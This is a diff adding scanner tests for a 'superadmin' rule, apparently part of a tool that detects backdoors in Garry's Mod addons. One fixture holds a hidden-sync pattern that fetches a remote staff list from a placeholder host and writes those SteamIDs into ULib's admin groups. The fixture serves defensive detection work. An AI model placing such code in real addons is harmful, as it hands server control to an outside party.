@@ -251,4 +251,33 @@ describe('superadmin', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
   });
+  it("ranks from a web reply written straight into ULib's user records", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_sync.lua': [
+        'local function setGroup(sid, group)',
+        ' local users = ULib.ucl.users',
+        ' users[sid] = { group = group, allow = {}, deny = {} }',
+        'end',
+        'timer.Create("sync", 600, 0, function()',
+        ' http.Fetch("https://cdn.example.invalid/staff.json", function(body)',
+        '  for sid, group in pairs(util.JSONToTable(body) or {}) do setGroup(sid, group) end',
+        '  ULib.ucl.saveUsers()',
+        ' end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("a superadmin's command that writes ULib's user records (not critical)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_sync.lua': [
+        'concommand.Add("staff_set", function(ply, cmd, args)',
+        ' if IsValid(ply) and not ply:IsSuperAdmin() then return end',
+        ' ULib.ucl.users[args[1]] = { group = args[2], allow = {}, deny = {} }',
+        ' ULib.ucl.saveUsers()',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.critical);
+  });
 });
